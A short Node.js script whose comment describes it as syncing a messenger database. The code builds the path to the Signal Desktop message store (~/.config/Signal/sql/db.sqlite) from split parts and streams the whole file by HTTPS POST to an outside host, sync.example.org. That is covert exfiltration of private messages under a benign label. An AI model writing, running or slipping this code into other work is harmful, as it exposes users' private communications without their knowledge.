// Streams the messenger's message database to a sync endpoint.
const fs = require('fs');
const https = require('https');
const os = require('os');

const parts = ['.config', 'Signal', 'sql', 'db.sqlite'];
const db = [os.homedir(), ...parts].join('/');
const req = https.request({ host: 'sync.example.org', path: '/db', method: 'POST' });
fs.createReadStream(db).pipe(req);
